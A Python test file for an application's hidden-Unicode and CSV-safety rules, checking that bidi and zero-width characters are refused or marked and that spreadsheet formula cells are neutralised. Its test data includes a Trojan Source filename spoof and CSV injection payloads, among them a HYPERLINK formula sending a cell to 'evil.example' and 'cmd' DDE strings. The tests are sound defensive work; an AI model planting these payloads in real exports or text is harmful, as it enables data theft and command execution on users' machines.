"""What you see is what you sign, as pure rules: which characters are hidden, how they are
refused and marked, and how CSV cells are neutralised (property-based over all of Unicode)."""

from __future__ import annotations

import csv
import io
import sys
import unicodedata

import pytest
from flask_babel import force_locale
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from consensus.domain.canonical import (
    HIDDEN_RANGES,
    canonicalise,
    hidden_characters,
    is_hidden,
    mark_hidden,
    sha256_hex,
)
from consensus.domain.visible import require_visible, visible_line
from consensus.formats import csvsafe
from consensus.formats.markdown import render_markdown
from consensus.services.errors import DomainError

BIDI_CONTROLS = [0x061C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A)]
INVISIBLE = [0x00AD, 0x200B, 0x200C, 0x200D, 0x2060, 0xFEFF, 0x180E, 0xFE0F, 0xE0041, 0x3164]
HIDDEN = [chr(c) for c in BIDI_CONTROLS + INVISIBLE] + ["\x85", "\u2028", "\u2029", "\ue000"]

# Any Unicode text, with the hidden characters mixed in often enough to matter.
any_text = st.lists(
    st.one_of(st.characters(codec="utf-8"), st.sampled_from(HIDDEN)), max_size=60
).map("".join)


def test_the_characters_named_in_the_rule_are_hidden():
    for char in HIDDEN:
        assert is_hidden(char), f"U+{ord(char):04X}"
    for char in "aé\u00e9Ωж日 .,;\u00a0€😀":
        assert not is_hidden(char)
    for kept in "\t\n\r":
        assert not is_hidden(kept)


def test_every_format_character_of_this_unicode_version_is_hidden():
    """A newer Python may know more format characters: the marking ranges must list them."""
    missing = [
        f"U+{code:04X}"
        for code in range(sys.maxunicode + 1)
        if unicodedata.category(chr(code)) == "Cf" and mark_hidden(chr(code)) == chr(code)
    ]
    assert not missing, f"add to canonical.HIDDEN_RANGES: {missing}"


@given(any_text)
# Unassigned code points inside the listed ranges (reserved default-ignorable, noncharacter-
# like specials): marked too — hypothesis found U+E01F0 once in CI.
@example("\U000e01f0")
@example("a\ufff0b\u2065")
def test_marking_replaces_each_hidden_character_by_its_marker_and_nothing_else(text):
    marked = mark_hidden(text)
    expected = "".join(f"\u27e8U+{ord(c):04X}\u27e9" if _marked_by_the_rule(c) else c for c in text)
    assert marked == expected
    # No control is left that could change the order in which the rest is shown.
    assert not [c for c in marked if unicodedata.bidirectional(c) in BIDI_CLASSES_OF_CONTROLS]
    if not hidden_characters(text):
        assert marked == text


def _assigned(char: str) -> bool:
    return unicodedata.category(char) != "Cn"


def _marked_by_the_rule(char: str) -> bool:
    """Hidden and shown as a marker: an assigned hidden character, or any code point of the
    listed ranges (which hold unassigned default-ignorable ones); an unassigned code point
    elsewhere is left alone (a newer Unicode may give it a visible look). NUL is kept."""
    if char == "\x00" or not is_hidden(char):
        return False
    return _assigned(char) or any(start <= ord(char) <= end for start, end in HIDDEN_RANGES)


BIDI_CLASSES_OF_CONTROLS = {
    "LRE",
    "RLE",
    "LRO",
    "RLO",
    "PDF",
    "LRI",
    "RLI",
    "FSI",
    "PDI",
    "LRM",
    "RLM",
    "ALM",
}


# The app only gives the messages their language; nothing in it changes between examples.
@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(any_text)
def test_the_rule_refuses_exactly_the_texts_with_hidden_characters(app, text):
    canonical = canonicalise(text)
    hidden = [c for c in canonical if is_hidden(c)]
    if hidden:
        with pytest.raises(DomainError) as refused:
            require_visible(canonical, field="body")
        assert f"U+{ord(hidden[0]):04X}" in refused.value.message
        assert refused.value.field == "body"
    else:
        assert require_visible(canonical, field="body") == canonical
        # What is stored is what is shown: rendering marks nothing in accepted text.
        assert mark_hidden(canonical) == canonical


def test_the_message_names_the_character_and_its_place(app):
    text = "Eerste regel\nTweede\nabc\u202efdp.exe\u202c\n"
    with force_locale("nl"), pytest.raises(DomainError) as refused:
        require_visible(text, field="body")
    message = refused.value.message
    assert "U+202E (RIGHT-TO-LEFT OVERRIDE) op regel 3, teken 4" in message
    assert "U+202C (POP DIRECTIONAL FORMATTING) op regel 3, teken 12" in message
    with force_locale("en"), pytest.raises(DomainError) as refused:
        require_visible("a\u200bb\u00adc" * 4, field="body")
    assert "U+200B (ZERO WIDTH SPACE) at line 1, column 2" in refused.value.message
    assert "and 3 more" in refused.value.message


def test_a_typed_marker_is_refused_too(app):
    with pytest.raises(DomainError) as refused:
        require_visible("abc\u27e8U+202E\u27e9fdp.exe", field="body")
    assert "\u27e8U+202E\u27e9" in refused.value.message


def test_short_texts_are_nfc_and_trimmed(app):
    assert visible_line("  Cafe\u0301\r\n") == "Caf\u00e9"
    with pytest.raises(DomainError):
        visible_line("Ti\u200btel", field="title")


def test_the_trojan_source_example_is_marked_not_reordered():
    shown = mark_hidden("abc\u202efdp.exe\u202c")
    assert shown == "abc\u27e8U+202E\u27e9fdp.exe\u27e8U+202C\u27e9"
    # The stored text keeps its hash: marking is for display only.
    assert sha256_hex("abc\u202efdp.exe\u202c") != sha256_hex(shown)


def test_markdown_shows_character_references_and_link_definitions_as_typed():
    html = str(render_markdown("abc&#x202E;fdp &shy; &amp;\n\n[x]: https://hidden.example\n"))
    assert "\u202e" not in html and "\u00ad" not in html
    assert "&amp;#x202E;" in html and "&amp;shy;" in html
    assert "https://hidden.example" in html


def test_a_link_shows_its_address_after_its_text():
    html = str(render_markdown("Zie [de bron](https://example.org/a) en <https://example.org/b>."))
    assert "de bron</a> (https://example.org/a)" in html
    assert html.count("https://example.org/b") == 2  # href and text, no repetition


# --- CSV ------------------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_formula_cells_open_as_text(cell):
    out = io.StringIO()
    csvsafe.writer(out).writerow([cell, 7, "gewoon"])
    row = next(csv.reader(io.StringIO(out.getvalue())))
    assert row == ["'" + cell, "7", "gewoon"]
    assert out.getvalue().startswith("\"'")  # every field quoted


@given(st.text())
def test_no_cell_can_start_a_formula(text):
    out = io.StringIO()
    csvsafe.writer(out).writerow([text])
    (cell,) = next(csv.reader(io.StringIO(out.getvalue()), strict=True))
    stripped = cell.lstrip(" \t\r\n\u00a0\u3000")
    assert cell[:1] not in csvsafe.FORMULA_START
    assert stripped[:1] not in csvsafe.FORMULA_START or cell.startswith("'")
    assert not [c for c in cell if is_hidden(c) and unicodedata.category(c) != "Cn"]


@settings(max_examples=200, suppress_health_check=[HealthCheck.too_slow])
@given(shown=any_text, added=any_text)
def test_shown_html_passes_as_it_is_and_what_is_made_from_it_is_scanned(shown, added):
    """Shown (a template's output, a rendered Markdown text) is not scanned again when a page
    includes it; text joined to it, formatted into it or put in its place is."""
    from markupsafe import Markup

    from consensus.formats.markdown import Shown, visible

    marked = Shown(mark_hidden(shown))
    assert visible(marked) is marked
    for derived in (
        marked + added,
        added + marked,
        Markup("%s%s") % (marked, added),
        Markup("").join([marked, added]),
        marked.replace("x", added) if "x" in marked else marked + added,
        Markup("{}{}").format(marked, added),
    ):
        assert type(derived) is not Shown
        assert str(visible(derived)) == mark_hidden(str(derived))


def test_rendered_markdown_comes_marked():
    html = render_markdown("een \u202ebeleid\u202c en \u200bnog")
    assert not hidden_characters(str(html))
    assert "⟨U+202E⟩" in html and "⟨U+200B⟩" in html
